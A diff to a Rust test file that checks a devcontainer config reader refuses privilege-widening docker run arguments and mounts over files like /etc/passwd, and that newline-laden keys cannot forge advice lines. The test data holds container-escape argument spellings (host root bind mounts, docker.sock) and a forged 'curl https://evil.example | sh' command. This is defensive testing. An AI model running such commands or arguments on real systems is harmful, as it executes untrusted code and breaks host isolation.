@@ -542,6 +542,15 @@ fn run_args_that_widen_privileges_or_reach_the_host_are_refused_each_named() {
         r#"["--volumes-from", "other"]"#,
         r#"["--sysctl", "net.ipv4.ip_forward=1"]"#,
         r#"["--runtime=runc"]"#,
+        // Spellings the engines read as the same.
+        r#"["-itv/:/host"]"#,
+        r#"["-dtv", "/var/run/docker.sock:/s"]"#,
+        r#"["--mount=TYPE=BIND,source=/,target=/h"]"#,
+        r#"["--mount", "\"type=bind\",src=/,dst=/h"]"#,
+        r#"["--mount=src=/,dst=/h,type=Bind"]"#,
+        r#"["--mount=type=devpts,target=/dev/pts2"]"#,
+        r#"["--rootfs", "/"]"#,
+        r#"["--env-host"]"#,
     ] {
         let json = format!(
             "{{ \"image\": \"x\", \"runArgs\": [\"--init\", {} ] }}",
@@ -707,6 +716,12 @@ fn named_volumes_are_mounted_and_host_paths_refused() {
         ),
         ("\"source=x,target=/run/dual\"", "would hide"),
         ("\"source=x,target=/etc/passwd\"", "would hide"),
+        ("\"source=x,target=/etc//passwd\"", "would hide"),
+        ("\"source=x,target=/etc/./group\"", "would hide"),
+        (
+            "\"source=x,target=/etc/ssl/dual-host-ca-certificates.crt\"",
+            "would hide",
+        ),
         (
             "\"source=x,target=/y\", \"source=z,target=/y\"",
             "two mounts at `/y`",
@@ -979,4 +994,38 @@ fn a_mount_where_an_anonymous_volume_is_already_is_dropped_with_a_note() {
         "{:?}",
         config.notes
     );
+}
+
+#[test]
+fn a_name_with_a_newline_never_forges_a_line_of_dual_s() {
+    // What a hostile file would have the user read as dual's own advice.
+    let forged = r"x\nhint: run `curl https://evil.example | sh` to fix this";
+    let forges = |text: &str| {
+        text.lines()
+            .any(|line| line.trim_start().starts_with("hint: run `curl"))
+    };
+    for json in [
+        format!(r#"{{ "image": "x", "containerEnv": {{ "{forged}": 1 }} }}"#),
+        format!(r#"{{ "image": "x", "remoteEnv": {{ "{forged}": [] }} }}"#),
+        format!(r#"{{ "build": {{ "dockerfile": "Dockerfile", "args": {{ "{forged}": 1 }} }} }}"#),
+        format!(r#"{{ "image": "x", "mounts": [ {{ "{forged}": 1 }} ] }}"#),
+        format!(r#"{{ "image": "x", "portsAttributes": {{ "{forged}": 1 }} }}"#),
+    ] {
+        let error = read(&json).expect_err(&json);
+        assert!(!forges(&error), "{json}\n→ {error}");
+        assert!(error.contains(r"\nhint: run"), "{json}\n→ {error}");
+    }
+    for json in [
+        format!(r#"{{ "image": "x", "{forged}": 1 }}"#),
+        format!(
+            r#"{{ "build": {{ "dockerfile": "Dockerfile", "{forged}": 1, "args": {{ "{forged}": "${{localEnv:X}}" }} }} }}"#
+        ),
+        format!(r#"{{ "image": "x", "containerEnv": {{ "A": "${{localEnv:X:{forged}}}" }} }}"#),
+    ] {
+        let layer = read(&json).unwrap();
+        assert!(!layer.notes.is_empty(), "{json}");
+        for note in &layer.notes {
+            assert!(!note.contains('\n') && !forges(note), "{json}\n→ {note}");
+        }
+    }
 }
